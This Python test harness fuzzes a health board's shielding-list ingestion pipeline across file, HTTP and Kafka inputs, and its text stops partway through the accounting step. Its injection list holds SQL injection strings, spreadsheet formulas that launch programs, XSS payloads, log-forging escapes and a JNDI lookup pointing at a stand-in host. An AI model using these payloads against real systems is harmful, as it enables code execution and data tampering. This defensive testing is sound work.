"""`accord campaign bad-input`: generated bad records through every way in, with figures.

A board (NHS Lothian) publishes its shielding list five ways at once, on a deployment of
the campaign's own (a topic prefix, a worker group), while a real `accord worker` runs:

* CSV, JSON Lines and .xlsx files through `accord publish`'s code path (`publish_file`);
* HTTP batches to a real `accord gateway` process, signed in with the board's token;
* raw Kafka frames written with the board's own credentials to its own partner topic
  (and, as the first authority attack, with another organisation's credentials).

Bad records of every kind (`KINDS`) are drawn from a seeded generator, and a fixed set of
good records, each about a known person (a CHI, so a known person key) living in one of
the board's councils, is interleaved with them. At the end every record is accounted for:

* a bad record is found in the board's `rejects.<org>` by where it came from (file and
  line, HTTP batch index and original text, topic/partition/offset) with a reason code
  and reason, or was refused at the door with a reason (an HTTP 4xx for the whole
  request, the broker refusing a write);
* a good record's person is on the list of the council they live in;
* no share topic holds anyone but the good records' people;
* no process exited, no HTTP request failed with 5xx, no publish raised.

Record ids and shares carry no personal data, so the figures and examples print only
kinds, ways, reason codes and locations.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import time
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path
from typing import Any

from accord.campaign.common import Echo, deployment, gateway_process, records, with_campaign_key
from accord.core.credentials import ADMIN, private_dir
from accord.core.errors import InfrastructureError
from accord.core.kafka import acknowledged_producer, admin_client, connection
from accord.core.pseudonym import person_key
from accord.core.scotland import org_id
from accord.core.serde import AvroSerde, encode_body, frame, parse_schema_text, registry_client
from accord.core.settings import Settings
from accord.core.topics import SHIELDING_LIST, Topics
from accord.ingest.pipeline import MAX_ORIGINAL_BYTES, Accepted, Location, Pipeline
from accord.ingest.publish import publish_file
from accord.ingest.validation import RowInvalid, validate_shielding_row
from accord.stack import processes
from accord.synthetic.people import (
    COLUMNS,
    chi_mod10_check_digit,
    chi_mod11_check_digit,
    generate_shielding_list,
)

BOARD = "nhs-lothian"
BOARD_NAME = "NHS Lothian"
OTHER_ORG = "city-of-edinburgh"  # holds its own credentials, never Lothian's
DATASET = SHIELDING_LIST
RECORD = "ShieldingListEntry"
WAYS = ("csv", "jsonl", "xlsx", "http", "kafka")
# How the bad records are spread over the ways in.
SHARE_OF_WAY = {"csv": 0.3, "jsonl": 0.25, "xlsx": 0.1, "http": 0.2, "kafka": 0.15}
KINDS = (
    "malformed",  # bad magic byte, truncated Avro, random bytes, broken JSON or CSV rows
    "foreign_schema",  # another subject's schema id, an unknown id
    "non_record",  # a value that is not a record: enum/string schemas, JSON scalars
    "oversized",  # fields over their limit, rows over 1 MiB, values over the broker's limit
    "invalid_identifier",  # CHI checksum and shape, dates, postcodes, phones, areas
    "injection",  # SQL, spreadsheet formulas, HTML/script, log forging, ANSI, templates
    "unicode",  # bidi overrides, zero-width, stacked marks, surrogates, NUL, symbols
    "wrong_type",  # lists, objects, numbers and booleans where text is due
    "missing_field",  # a required field absent or blank
    "impersonation",  # a record naming another organisation as its source
    "foreign_credentials",  # another organisation's credentials on this partner topic
)
# Authority attacks (issue 11, item 1) go here as the authority rules land: kind name ->
# the ways it is tried. Each is a record the partner may send but may not assert (a
# council's shielding-list row, an outcome for another organisation's request, a board's
# entry replaced by someone else); each must end in the publisher's rejects with its
# reason and leave the case untouched. For now: writing to another organisation's topic,
# which the broker's ACLs refuse.
AUTHORITY_KINDS: dict[str, tuple[str, ...]] = {"foreign_credentials": ("kafka",)}
# Rows over the file readers' 1 MiB limit and values over the broker's limit are slow to
# write and read: at most this many of each per way in.
HUGE_PER_WAY = 4
HUGE_BYTES = 1_200_000
BROKER_REFUSED_BYTES = 2_500_000
HTTP_BATCH_RECORDS = 500
HTTP_BATCH_BYTES = 4 * 1024 * 1024

INJECTIONS = (
    "Robert'); DROP TABLE cases;--",
    "1' OR '1'='1",
    "x'; DELETE FROM decisions WHERE 1=1; --",
    '" OR ""="',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/x","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "Kerr<b>bold</b>",
    'Kerr\n{"event": "share_released", "level": "info"}',
    "Kerr\r\n2020-04-01T10:00:00Z INFO audit_ok",
    "Kerr\x1b[2J\x1b[H",
    "\x1b[31mKerr\x1b[0m",
    "\x1b]8;;http://example.org\x07link\x1b]8;;\x07",
    "${jndi:ldap://example.org/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "[red]Kerr[/red]",
)
UNICODE = (
    "Kerr\u202e",
    "\u202dSmith\u202c",
    "\u2067Ann\u2069",
    "Ke\u200brr",
    "\ufeffAnn",
    "An\u200dn",
    "Ke\u0336\u0337\u0338\u0335\u0334rr",
    "Z\u0351\u0352\u0357\u0350\u035b\u0346alg",
    "Ke\x00rr",
    "Ke\x1crr",
    "Ke\x85rr",
    "Kerr\U0001f600",
    "K\u20dde\u20ddr\u20ddr",  # enclosing marks, one per letter, are symbols in a name
)
SURROGATE = "Kerr\ud800"
TEXT_FIELDS = ("given_name", "family_name", "address_line1", "town")
REQUIRED = (
    "chi_number",
    "given_name",
    "family_name",
    "date_of_birth",
    "address_line1",
    "postcode",
    "council_area",
    "health_board",
    "shielding_status",
    "effective_date",
)


@dataclass
class Probe:
    """One record sent: what it is, and where its trace must be found."""

    way: str
    kind: str  # "good" for the known good records
    content: Any  # a row (dict), a raw line (bytes), a JSON value, or Kafka value bytes
    chi: str | None = None  # good records: the person
    council: str | None = None  # good records: whose list they must reach
    location: str | None = None  # the rejects location it must be found at
    original: bytes | None = None  # HTTP: the record's text, as the gateway keeps it
    door: str | None = None  # refused at the door: the reason given
    topic: str | None = None  # Kafka: where it was written

    @property
    def good(self) -> bool:
        return self.kind == "good"


@dataclass
class Figures:
    seed: int
    records: int
    sent: Counter[str] = field(default_factory=Counter)  # way -> bad records
    kinds: Counter[str] = field(default_factory=Counter)  # kind -> bad records
    way_kinds: Counter[str] = field(default_factory=Counter)  # "way kind" -> bad records
    good: Counter[str] = field(default_factory=Counter)  # way -> good records
    crashes: list[str] = field(default_factory=list)
    good_lost: int = 0
    in_rejects: int = 0
    at_door: int = 0
    reasonless: int = 0
    unaccounted: int = 0
    bad_shared: int = 0
    reason_codes: Counter[str] = field(default_factory=Counter)
    examples: list[str] = field(default_factory=list)
    seconds: float = 0.0
    worker_tracebacks: int = 0

    @property
    def bad(self) -> int:
        return sum(self.sent.values())

    @property
    def passed(self) -> bool:
        return (
            not self.crashes
            and self.good_lost == 0
            and self.unaccounted == 0
            and self.reasonless == 0
            and self.bad_shared == 0
            and self.in_rejects + self.at_door == self.bad
        )

    def as_json(self) -> dict[str, Any]:
        return {
            "seed": self.seed,
            "bad_records": self.bad,
            "bad_by_way": dict(sorted(self.sent.items())),
            "bad_by_kind": dict(sorted(self.kinds.items())),
            "bad_by_way_and_kind": dict(sorted(self.way_kinds.items())),
            "good_by_way": dict(sorted(self.good.items())),
            "crashes": len(self.crashes),
            "crash_details": self.crashes,
            "worker_tracebacks": self.worker_tracebacks,
            "good_lost": self.good_lost,
            "bad_in_rejects_with_reason": self.in_rejects,
            "bad_refused_at_door_with_reason": self.at_door,
            "bad_without_reason": self.reasonless,
            "bad_unaccounted": self.unaccounted,
            "bad_reached_share": self.bad_shared,
            "reason_codes": dict(self.reason_codes.most_common()),
            "examples": self.examples,
            "seconds": round(self.seconds, 1),
            "passed": self.passed,
        }

    def lines(self) -> list[str]:
        out = [
            f"seed {self.seed}: {self.bad} bad records, {sum(self.good.values())} good "
            f"records interleaved, {self.seconds:.0f}s",
            "bad records per way in: " + _counts(self.sent, WAYS),
            "bad records per kind: " + _counts(self.kinds, KINDS),
            "good records per way in: " + _counts(self.good, WAYS),
            f"crashes: {len(self.crashes)}"
            + (f" ({'; '.join(self.crashes[:5])})" if self.crashes else ""),
            f"worker tracebacks logged: {self.worker_tracebacks}",
            f"good records lost: {self.good_lost}",
            f"bad records in the rejects with a reason: {self.in_rejects}",
            f"bad records refused at the door with a reason: {self.at_door}",
            f"bad records accounted for: {self.in_rejects + self.at_door} of {self.bad}",
            f"bad records without a reason: {self.reasonless}",
            f"bad records unaccounted for: {self.unaccounted}",
            f"bad records that reached a share topic: {self.bad_shared}",
            "most frequent reason codes: "
            + ", ".join(f"{code} {n}" for code, n in self.reason_codes.most_common(12)),
            *(f"  e.g. {example}" for example in self.examples[:10]),
            "PASS" if self.passed else "FAIL",
        ]
        return out


def _counts(counter: Counter[str], order: tuple[str, ...]) -> str:
    return ", ".join(f"{name} {counter[name]}" for name in order if counter[name])


# --- the generator ----------------------------------------------------------------------


class Generator:
    """Seeded bad records of each kind, for each way in, from valid base rows."""

    def __init__(self, rng: random.Random, bases: list[dict[str, str]]) -> None:
        self.rng = rng
        self.bases = bases
        self.huge: Counter[str] = Counter()

    def base(self) -> dict[str, str]:
        return dict(self.rng.choice(self.bases))

    def kinds_for(self, way: str) -> tuple[str, ...]:
        if way == "kafka":
            return KINDS
        skip = {"foreign_schema", "foreign_credentials"}
        if way in ("csv", "xlsx"):
            skip |= {"non_record", "impersonation"}
        if way == "jsonl":
            skip |= {"impersonation"}  # a file's source is its publisher; no such column
        if way == "http":
            skip |= {"malformed"}  # whole requests: see `door_probes`
        return tuple(kind for kind in KINDS if kind not in skip)

    def _allow_huge(self, way: str) -> bool:
        if self.huge[way] >= HUGE_PER_WAY:
            return False
        self.huge[way] += 1
        return True

    # Row kinds (CSV, JSON Lines, .xlsx, HTTP): a dict of field -> value, or raw content.

    def invalid_identifier(self, row: dict[str, Any]) -> dict[str, Any]:
        rng = self.rng
        chi = row["chi_number"]
        valid = {chi_mod11_check_digit(chi[:9]), chi_mod10_check_digit(chi[:9])}
        choices: list[tuple[str, Any]] = [
            ("chi_number", chi[:9] + str(rng.choice([d for d in range(10) if d not in valid]))),
            ("chi_number", chi[:9]),
            ("chi_number", chi + "1"),
            ("chi_number", chi[:4] + "X" + chi[5:]),
            ("chi_number", "32" + chi[2:]),
            ("date_of_birth", "1950-02-30"),
            ("date_of_birth", "2099-01-01"),
            ("date_of_birth", "1850-06-01"),
            ("date_of_birth", "13/13/1950"),
            ("date_of_birth", "yesterday"),
            ("postcode", "EH1"),
            ("postcode", "EH1 1A"),
            ("postcode", "XYZ 123"),
            ("postcode", "12345"),
            ("postcode", "EH99 9ZZZ"),
            ("contact_phone", "12345"),
            ("contact_phone", "0770090012"),
            ("contact_phone", "call me"),
            ("contact_phone", "+1 202 555 0143"),  # not a UK number (a lost 0 is restored)
            ("council_area", "Atlantis"),
            ("health_board", "NHS Narnia"),
            ("council_area", "Fife"),  # not in NHS Lothian's area
            ("effective_date", "1999-12-31"),
        ]
        name, value = rng.choice(choices)
        row[name] = value
        if name == "date_of_birth" and value in ("1950-02-30", "13/13/1950", "yesterday"):
            return row
        if name == "council_area" and value == "Fife":
            return row
        return row

    def injection(self, row: dict[str, Any], way: str) -> dict[str, Any]:
        choices = [v for v in INJECTIONS if way != "xlsx" or not _xlsx_illegal(v)]
        value = self.rng.choice(choices)
        name = self.rng.choice(TEXT_FIELDS)
        row[name] = value if self.rng.random() < 0.5 else f"{row.get(name) or 'x'} {value}"
        if value.startswith(("=", "+", "-", "@")):
            row[name] = value  # a formula must lead the cell to be one
        return row

    def unicode(self, row: dict[str, Any], way: str) -> dict[str, Any]:
        choices = [v for v in UNICODE if way != "xlsx" or not _xlsx_illegal(v)]
        if way in ("jsonl", "http"):
            choices.append(SURROGATE)
        value = self.rng.choice(choices)
        row[self.rng.choice(TEXT_FIELDS)] = value
        return row

    def wrong_type(self, row: dict[str, Any], way: str) -> dict[str, Any]:
        rng = self.rng
        if way in ("jsonl", "http"):
            choices: list[tuple[str, Any]] = [
                ("given_name", [row["given_name"]]),
                ("family_name", {"name": row["family_name"]}),
                ("date_of_birth", 19500101),
                ("shielding_status", True),
                ("postcode", 12345),
                ("chi_number", 1.5),
                ("council_area", ["City of Edinburgh", "Midlothian"]),
                ("effective_date", {"date": "2020-04-01"}),
            ]
        elif way == "xlsx":
            choices = [
                ("date_of_birth", 19500101),
                ("shielding_status", True),
                ("postcode", 12345),
                ("chi_number", 1.5),
                ("effective_date", 3.25),
                ("council_area", 42),
            ]
        else:  # CSV: everything is text; text of the wrong shape for its field
            choices = [
                ("date_of_birth", "19500101.5"),
                ("shielding_status", "3"),
                ("clinical_risk_group", "true"),
                ("chi_number", "1.5e9"),
                ("effective_date", "TRUE"),
            ]
        name, value = rng.choice(choices)
        row[name] = value
        return row

    def missing_field(self, row: dict[str, Any], way: str) -> dict[str, Any]:
        name = self.rng.choice(REQUIRED)
        if way in ("jsonl", "http"):
            row.pop(name)
        else:
            row[name] = None if way == "xlsx" else ""
        return row

    def oversized(self, row: dict[str, Any], way: str) -> Any:
        name = self.rng.choice(TEXT_FIELDS)
        if way in ("csv", "jsonl", "http") and self.huge[way] < HUGE_PER_WAY:
            self.huge[way] += 1
            if way == "http":  # 320 KB: over the limit, and the kept original is cut
                row[name] = "Kerr" * 80_000
            else:
                row[name] = "x" * HUGE_BYTES  # a row over the readers' 1 MiB limit
        else:
            row[name] = "K" + "e" * self.rng.randrange(201, 5000)
        return row

    def row(self, way: str, kind: str) -> Any:
        """A bad record for a file or HTTP way: a row dict, or raw bytes for a line."""
        row: dict[str, Any] = self.base()
        if kind == "invalid_identifier":
            return self.invalid_identifier(row)
        if kind == "injection":
            return self.injection(row, way)
        if kind == "unicode":
            if way == "csv" and self.rng.random() < 0.2:
                row["family_name"] = "Kerr\udced\udca0\udc80"  # bytes that are not UTF-8
                return row
            return self.unicode(row, way)
        if kind == "wrong_type":
            return self.wrong_type(row, way)
        if kind == "missing_field":
            return self.missing_field(row, way)
        if kind == "oversized":
            return self.oversized(row, way)
        if kind == "impersonation":
            row["source_org"] = self.rng.choice(("nhs-fife", OTHER_ORG, "admin", "accord-worker"))
            return row
        if kind == "non_record":
            return self.rng.choice((42, "a string", None, [1, 2, 3], True, [row]))
        if kind == "malformed":
            return self.malformed(row, way)
        raise ValueError(f"no {kind} records for {way}")

    def malformed(self, row: dict[str, Any], way: str) -> Any:
        rng = self.rng
        if way == "csv":
            values = [row.get(name) or "" for name in COLUMNS]
            if rng.random() < 0.5:
                return values + ["surplus"] * rng.randrange(1, 4)  # more fields than the header
            return values[: rng.randrange(1, len(values) - 1)]  # fewer
        if way == "xlsx":
            return [row.get(name) for name in COLUMNS] + ["beyond the header"]
        text = json.dumps(row)
        choice = rng.randrange(4)
        if choice == 0:
            return RawBytes(text[: rng.randrange(1, len(text) - 1)].encode())  # truncated
        if choice == 1:
            return RawBytes(b"\xff\xfe" + text.encode())  # not UTF-8
        if choice == 2:
            return RawBytes(b"{'given_name': 'single quotes'}")
        return RawBytes(b"<record><name>xml</name></record>")


@dataclass(frozen=True)
class RawBytes:
    """A JSON Lines line (or HTTP record) that is not JSON at all."""

    data: bytes


_XLSX_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


def _xlsx_illegal(value: str) -> bool:
    """openpyxl cannot write these characters at all (a spreadsheet cannot hold them)."""
    return bool(_XLSX_ILLEGAL.search(value))


def base_rows(people: int, seed: int) -> list[dict[str, str]]:
    """Valid shielding-list rows of NHS Lothian's residents who shield (so each one,
    published alone, opens a case shared with the council they live in)."""
    rows = []
    for row in generate_shielding_list(people, seed=seed, bad_rows=0):
        if row["health_board"] != BOARD_NAME or row["shielding_status"] != "SHIELDING":
            continue
        try:
            validate_shielding_row(row)
        except RowInvalid:
            continue
        rows.append(row)
    return rows


def plan(records: int, good_per_way: int, seed: int) -> list[Probe]:
    """Every record the campaign sends, in order: bad records of each kind spread over
    the ways in, with the good records interleaved at seeded positions."""
    rng = random.Random(seed)
    pool = base_rows(max(2000, 40 * good_per_way), seed)
    if len(pool) < 5 * good_per_way + 50:
        raise ValueError("too few synthetic Lothian residents for the good records")
    rng.shuffle(pool)
    good_rows, bad_bases = pool[: 5 * good_per_way], pool[5 * good_per_way :]
    generator = Generator(rng, bad_bases)
    probes: list[Probe] = []
    for index, way in enumerate(WAYS):
        count = round(records * SHARE_OF_WAY[way])
        kinds = generator.kinds_for(way)
        way_probes = [
            Probe(way, kind, None) for kind in (kinds[n % len(kinds)] for n in range(count))
        ]
        for probe in way_probes:
            if way != "kafka":
                probe.content = generator.row(way, probe.kind)
        for row in good_rows[index * good_per_way : (index + 1) * good_per_way]:
            good = Probe(way, "good", dict(row), row["chi_number"], org_id(row["council_area"]))
            way_probes.insert(rng.randrange(len(way_probes) + 1), good)
        probes.extend(way_probes)
    return probes


# --- the ways in --------------------------------------------------------------------------


_BREAK = re.compile(r"\r\n|\r|\n")


def write_csv(probes: list[Probe], path: Path, name: str) -> None:
    """A CSV of the probes' rows; each bad row's location is the line the reader reports
    (the last physical line of its record, as the csv module counts)."""

    def encoded(cells: list[Any]) -> str:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerow(cells)
        return buffer.getvalue()

    chunks = [encoded(list(COLUMNS))]
    line = 2
    for probe in probes:
        content = probe.content
        if isinstance(content, dict):
            content = ["" if content.get(c) is None else content.get(c) for c in COLUMNS]
        text = encoded(content)
        chunks.append(text)
        lines = len(_BREAK.findall(text))
        probe.location = f"{name} line {line + lines - 1}"
        line += lines
    private_dir(path.parent)
    path.write_bytes("".join(chunks).encode("utf-8", "surrogateescape"))


def write_jsonl(probes: list[Probe], path: Path, name: str) -> None:
    lines = []
    for number, probe in enumerate(probes, start=1):
        content = probe.content
        data = content.data if isinstance(content, RawBytes) else json.dumps(content).encode()
        lines.append(data)
        probe.location = f"{name} line {number}"
    private_dir(path.parent)
    path.write_bytes(b"\n".join(lines) + b"\n")


def write_xlsx(probes: list[Probe], path: Path, name: str) -> None:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(list(COLUMNS))

    def cell(value: Any) -> Any:
        if not (isinstance(value, str) and value.startswith("=")):
            return value
        text = WriteOnlyCell(sheet, value)
        text.data_type = "s"  # the formula's text, as a partner's export holds it
        return text

    for number, probe in enumerate(probes, start=2):
        content = probe.content
        cells = content if isinstance(content, list) else [content.get(c) for c in COLUMNS]
        sheet.append([cell(value) for value in cells])
        probe.location = f"{name} sheet 'Sheet' row {number}"  # a workbook's rows are by sheet
    private_dir(path.parent)
    book.save(path)


WRITERS: dict[str, Callable[[list[Probe], Path, str], None]] = {
    "csv": write_csv,
    "jsonl": write_jsonl,
    "xlsx": write_xlsx,
}


def publish_files(
    settings: Settings, probes: list[Probe], folder: Path, figures: Figures, echo: Echo
) -> None:
    for way, write in WRITERS.items():
        mine = [p for p in probes if p.way == way]
        path = folder / f"bad-input.{way}"
        write(mine, path, path.name)
        try:
            report = publish_file(settings, BOARD, DATASET, path)
        except Exception as exc:  # any exception is a crash of `accord publish`
            figures.crashes.append(f"publish {way}: {type(exc).__name__}")
            continue
        echo(f"  {way}: {report.published} published, {report.quarantined} to the rejects")


def http_original(record: Any) -> bytes:
    """The record's text as the gateway keeps it in the rejects."""
    return json.dumps(record, ensure_ascii=False).encode("utf-8", "backslashreplace")


def _batches(probes: list[Probe]) -> Iterator[list[Probe]]:
    batch: list[Probe] = []
    size = 0
    for probe in probes:
        length = len(json.dumps(probe.content)) + 2
        if batch and (len(batch) >= HTTP_BATCH_RECORDS or size + length > HTTP_BATCH_BYTES):
            yield batch
            batch, size = [], 0
        batch.append(probe)
        size += length
    if batch:
        yield batch


def door_probes(rng: random.Random) -> list[tuple[Probe, bytes]]:
    """Whole requests the gateway must refuse before reading a record: (probe, body)."""
    return [
        (Probe("http", "malformed", "broken JSON"), b'[{"given_name": "Ann", '),
        (Probe("http", "malformed", "nested too deeply"), b"[" * 64 + b"]" * 64),
        (Probe("http", "non_record", "records not a list"), b'{"records": 5}'),
        (Probe("http", "non_record", "a bare string"), b'"records"'),
        (Probe("http", "oversized", "1,001 records"), json.dumps([{}] * 1001).encode()),
        (
            Probe("http", "oversized", "a 6 MiB body"),
            json.dumps([{"given_name": "x" * (6 * 1024 * 1024)}]).encode(),
        ),
    ]


def post_http(
    settings: Settings, probes: list[Probe], folder: Path, figures: Figures, echo: Echo
) -> None:
    """POST the HTTP probes to a real gateway, then whole requests it must refuse."""
    mine = [p for p in probes if p.way == "http"]
    rng = random.Random(figures.seed)
    with gateway_process(settings, folder / "gateway") as gateway:
        token = gateway.token(BOARD)
        for batch in _batches(mine):
            body = json.dumps([p.content for p in batch]).encode()
            response = _post(gateway, token, body, figures)
            if response is None:
                continue
            if response.status_code >= 500:
                figures.crashes.append(f"gateway answered {response.status_code}")
                continue
            if response.status_code != 200:
                for probe in batch:
                    probe.door = f"http_{response.status_code}"
                figures.examples.append(f"http batch refused with {response.status_code}")
                continue
            results = response.json()["results"]
            for index, (probe, result) in enumerate(zip(batch, results, strict=True)):
                if result["status"] == "rejected":
                    probe.location = f"HTTP batch record {index}"
                    probe.original = http_original(probe.content)
                    if not all(e.get("rule") and e.get("reason") for e in result["errors"]):
                        figures.reasonless += 1
        for probe, body in door_probes(rng):
            response = _post(gateway, token, body, figures)
            probes.append(probe)
            if response is not None and 400 <= response.status_code < 500:
                error = response.json().get("error")
                probe.door = f"http_{response.status_code}_{error}" if error else None
            elif response is not None and response.status_code >= 500:
                figures.crashes.append(f"gateway answered {response.status_code}")
        exited = gateway.process.poll()
        if exited is not None:
            figures.crashes.append(f"the gateway exited with code {exited}")
        echo(f"  http: {len(mine)} records in {len(list(_batches(mine)))} requests")


def _post(gateway: Any, token: str, body: bytes, figures: Figures) -> Any:
    for _ in range(30):
        try:
            response = gateway.post(token, "shielding-list", body)
        except Exception as exc:  # the connection broke: the gateway failed the request
            figures.crashes.append(f"gateway request failed: {type(exc).__name__}")
            return None
        if response.status_code != 429:
            return response
        time.sleep(float(response.headers.get("Retry-After", "1")))
    return response


class KafkaFrames:
    """Raw values for the board's own partner topic, as a native producer would write."""

    def __init__(self, settings: Settings, rng: random.Random, generator: Generator) -> None:
        self.settings = settings
        self.rng = rng
        self.generator = generator
        self.topics = Topics(settings)
        self.topic = self.topics.partner(BOARD, DATASET)
        self.subject = Topics.subject(self.topic)
        self.partner_serde = AvroSerde(registry_client(settings, BOARD), settings.schemas_dir)
        self.admin_serde = AvroSerde(registry_client(settings, ADMIN), settings.schemas_dir)
        self.pipeline = Pipeline(BOARD, DATASET)
        text = (settings.schemas_dir / f"{RECORD}.avsc").read_text()
        self.schema = json.loads(text)
        self.parsed = parse_schema_text(text)
        self._register_odd_schemas()

    def _register_odd_schemas(self) -> None:
        """A partner may register anything under its own subject once its compatibility
        is NONE (which the administrator sets): the worst its own topic can carry."""
        admin = self.admin_serde.registry
        admin._call("PUT", f"/config/{self.subject}", json={"compatibility": "NONE"})
        registry = self.partner_serde.registry
        self.partner_serde.writer(self.subject, RECORD)  # the real schema first
        self.enum_id = registry.register(
            self.subject, '{"type": "enum", "name": "Trap", "symbols": ["X"]}'
        )
        self.string_id = registry.register(self.subject, '"string"')
        wrong = json.loads(json.dumps(self.schema))
        for item in wrong["fields"]:
            if item["name"] == "postcode":
                item["type"] = "int"
        self.wrong_text = json.dumps(wrong)
        self.wrong_id = registry.register(self.subject, self.wrong_text)
        missing = json.loads(json.dumps(self.schema))
        missing["fields"] = [f for f in missing["fields"] if f["name"] != "given_name"]
        self.missing_text = json.dumps(missing)
        self.missing_id = registry.register(self.subject, self.missing_text)
        # Another subject's schema: the same record under another organisation's topic.
        other = Topics.subject(self.topics.partner(OTHER_ORG, "support-request"))
        self.foreign_id, _ = self.admin_serde.writer(other, "SupportRequest")

    def event(self, row: dict[str, str]) -> dict[str, Any]:
        outcome = self.pipeline.process(row, Location("KAFKA", "campaign", "campaign"), b"")
        assert isinstance(outcome, Accepted), outcome
        return dict(outcome.event)

    def good(self, row: dict[str, str]) -> bytes:
        return self.partner_serde.encode(self.subject, RECORD, self.event(row))

    def encode(self, record: dict[str, Any]) -> bytes:
        return self.partner_serde.encode(self.subject, RECORD, record)

    def bad(self, kind: str) -> tuple[bytes | None, bool]:
        """(value, written with another organisation's credentials)."""
        rng = self.rng
        event = self.event(self.generator.base())
        if kind == "malformed":
            good = self.encode(event)
            return (
                rng.choice(
                    (
                        bytes([rng.randrange(1, 256)]) + good[1:],  # bad magic byte
                        good[: rng.randrange(6, len(good) - 1)],  # truncated Avro
                        rng.randbytes(rng.randrange(0, 400)),  # random bytes
                        good[:3],  # shorter than the header
                        None,  # no value at all
                    )
                ),
                False,
            )
        if kind == "foreign_schema":
            body = self.encode(event)[5:]
            return rng.choice((frame(self.foreign_id, body), frame(2**31 - 11, body))), False
        if kind == "non_record":
            return rng.choice(
                (frame(self.enum_id, b"\x00"), frame(self.string_id, b"\x06abc"))
            ), False
        if kind == "oversized":
            if self.generator._allow_huge("kafka"):  # incompressible, so the broker sees it
                letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
                event["address_line2"] = "".join(rng.choices(letters, k=BROKER_REFUSED_BYTES))
            else:
                event[rng.choice(TEXT_FIELDS)] = "K" + "e" * rng.randrange(201, 200_000)
            return self.encode(event), False
        if kind == "invalid_identifier":
            texts = {k: ("" if v is None else str(v)) for k, v in event.items()}
            before = dict(texts)
            self.generator.invalid_identifier(texts)
            changed = [k for k in texts if texts[k] != before[k]] or ["date_of_birth"]
            name = changed[0]
            if name == "date_of_birth":  # a date the Avro type can hold, but wrong
                event[name] = rng.choice(
                    (date(2099, 1, 1), date(1850, 1, 1), event[name] + timedelta(days=1))
                )
            elif name == "effective_date":
                event[name] = date(1999, 1, 1)
            else:
                event[name] = texts[name]
            return self.encode(event), False
        if kind == "injection":
            row = self.generator.injection({k: event.get(k) for k in TEXT_FIELDS}, "kafka")
            event.update(row)
            return self.encode(event), False
        if kind == "unicode":
            if rng.random() < 0.25:  # bytes that are not UTF-8 inside an Avro string
                event["family_name"] = "ZQZQ"
                value = self.encode(event)
                return value.replace(b"ZQZQ", b"\xff\xfe\xed\xa0", 1), False
            row = self.generator.unicode({k: event.get(k) for k in TEXT_FIELDS}, "kafka")
            event.update(row)
            return self.encode(event), False
        if kind == "wrong_type":
            event["postcode"] = rng.randrange(1, 99999)
            body = encode_body(parse_schema_text(self.wrong_text), event, RECORD)
            return frame(self.wrong_id, body), False
        if kind == "missing_field":
            if rng.random() < 0.5:
                event.pop("given_name")
                body = encode_body(parse_schema_text(self.missing_text), event, RECORD)
                return frame(self.missing_id, body), False
            event[rng.choice(("chi_number", "family_name", "postcode", "council_area"))] = ""
            return self.encode(event), False
        if kind == "impersonation":
            event["source_org"] = rng.choice(("nhs-fife", OTHER_ORG, "admin"))
            return self.encode(event), False
        if kind == "foreign_credentials":
            return self.encode(event), True
        raise ValueError(kind)


def send_kafka(settings: Settings, probes: list[Probe], figures: Figures, echo: Echo) -> None:
    from kafka.errors import KafkaError

    mine = [p for p in probes if p.way == "kafka"]
    rng = random.Random(figures.seed + 1)
    generator = Generator(rng, base_rows(2000, figures.seed + 1))
    frames = KafkaFrames(settings, rng, generator)
    own = acknowledged_producer(
        connection(settings, BOARD), max_request_size=8 * 1024 * 1024, linger_ms=5
    )
    big = acknowledged_producer(
        connection(settings, BOARD), max_request_size=8 * 1024 * 1024, enable_idempotence=False
    )
    other = acknowledged_producer(
        connection(settings, OTHER_ORG), max_block_ms=10_000, request_timeout_ms=10_000
    )
    pending = []
    refusals: Counter[str] = Counter()
    try:
        for number, probe in enumerate(mine):
            key = f"campaign-{figures.seed}-{number}".encode()  # never a person's data
            if probe.good:
                value, foreign = frames.good(probe.content), False
            else:
                value, foreign = frames.bad(probe.kind)
            # A value over the broker's limit goes alone, on a producer of its own: the
            # broker refuses a whole batch, and a refused batch must not take others along.
            huge = value is not None and len(value) > 1024 * 1024
            producer = other if foreign else big if huge else own
            probe.topic = frames.topic
            try:
                future = producer.send(frames.topic, key=key, value=value)
                if huge:
                    producer.flush(timeout=60)
                pending.append((probe, future))
            except KafkaError as exc:
                probe.door = f"kafka_{type(exc).__name__}"
        own.flush(timeout=300)
        for probe, future in pending:
            try:
                meta = future.get(timeout=60)
            except KafkaError as exc:
                probe.door = f"kafka_{type(exc).__name__}"
                refusals[f"{probe.kind} {type(exc).__name__}"] += 1
                continue
            probe.location = f"{meta.topic}/{meta.partition}/{meta.offset}"
    finally:
        own.close(timeout=30)
        big.close(timeout=30)
        other.close(timeout=10)
    refused = sum(1 for p in mine if p.door)
    echo(f"  kafka: {len(mine)} values written, {refused} refused by the broker")
    for reason, count in refusals.most_common():
        echo(f"    {count} {reason}")


# --- accounting ------------------------------------------------------------------------


def account(settings: Settings, probes: list[Probe], figures: Figures, secret: str) -> None:
    serde = AvroSerde(registry_client(settings, ADMIN), settings.schemas_dir)
    topics = Topics(settings)
    found: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for _, entry in records(settings, serde, topics.rejects(BOARD)):
        if entry is not None:
            found[entry["location"]].append(entry)
    shared: dict[str, set[str]] = {}
    admin = admin_client(settings)
    try:
        names = [t for t in admin.list_topics() if t.startswith(f"{settings.topic_prefix}share.")]
    finally:
        admin.close()
    for name in names:
        recipient = name.removeprefix(f"{settings.topic_prefix}share.").rsplit(".", 1)[0]
        keys: set[str] = set()
        for message, value in records(settings, serde, name):
            key = message.key.decode()
            if value is None:
                keys.discard(key)
            else:
                keys.add(key)
        shared[recipient] = keys

    good_keys = set()
    for probe in probes:
        if probe.good:
            figures.good[probe.way] += 1
            key = person_key(secret, probe.chi or "")
            good_keys.add(key)
            if key not in shared.get(probe.council or "", set()):
